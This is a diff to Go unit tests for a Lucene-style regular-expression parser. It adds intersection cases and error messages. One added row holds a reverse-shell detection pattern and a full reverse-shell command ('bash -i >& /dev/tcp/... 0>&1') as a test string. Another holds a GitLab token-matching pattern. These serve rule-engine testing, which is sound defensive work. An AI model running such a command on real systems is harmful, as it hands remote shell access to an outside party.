@@ -82,6 +82,20 @@ func TestLuceneRegexpMatches(t *testing.T) {
 		{`<0-10>`, []string{"0", "00", "007", "10", "010"}, []string{"11", ""}},
 		{`<95-1205>`, []string{"95", "99", "100", "999", "1000", "1205", "0095"}, []string{"94", "1206", "1300", "2000"}},
 		{`<123-456>`, []string{"123", "199", "200", "399", "400", "456"}, []string{"122", "457", "500"}},
+		// Intersections with a side of few strings keep those the other
+		// side matches. The reverse-shell rule's ">&" makes two of its
+		// alternatives intersections that match nothing.
+		{`a&b`, nil, []string{"", "a", "b", "a&b"}},
+		{`[a-c]&b`, []string{"b"}, []string{"a", "c"}},
+		{`(ab|cd|ef)&.*d.*`, []string{"cd"}, []string{"ab", "ef"}},
+		{`a{1,3}&aa`, []string{"aa"}, []string{"a", "aaa"}},
+		{`x(1|2)y&.*2.*z?`, []string{"x2y"}, []string{"x1y"}},
+		{`<01-12>&1.`, []string{"10", "11", "12"}, []string{"01", "13"}},
+		{`&a`, []string{"&a"}, []string{"a"}}, // where an operand is expected, "&" is itself
+		{`.*(nc\s+-e|bash\s+-i\s+>&|0>&1|mkfifo).*`, []string{"x nc -e sh", "mkfifo p"}, []string{"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "bash -i >"}},
+		// A doubled backslash is a whole class item, never a range's start.
+		{`[\\-x]+`, []string{`\`, "-", "x", `\-x`}, []string{"y", "]"}},
+		{`.*glpat-[A-Za-z0-9_\\-]+.*`, []string{`glpat-ab_c-d\e`}, []string{"glpat-", "glpat-!"}},
 		// Empty pattern: the empty string only.
 		{``, []string{""}, []string{"a"}},
 		// Corpus patterns, which read alike in both syntaxes.
@@ -135,7 +149,8 @@ func TestLuceneRegexpErrors(t *testing.T) {
 		{`[\t]`, 1, `unknown escape \t`},
 		{`"abc`, 4, `expected a closing '"'`},
 		{`a~b`, 1, `complement "~" is not supported`},
-		{`a&b`, 1, `intersection "&" is not supported`},
+		{`a*&b+`, 2, `intersection "&" of two sides that both match endless strings is not supported`},
+		{`(x|.*a)&(y|b.*)`, 7, `intersection "&"`},
 		{`x<name>`, 1, `named automaton <name> is not supported`},
 		{`<1-2`, 4, `expected ">"`},
 		{`<-5>`, 0, `bad numeric interval`},
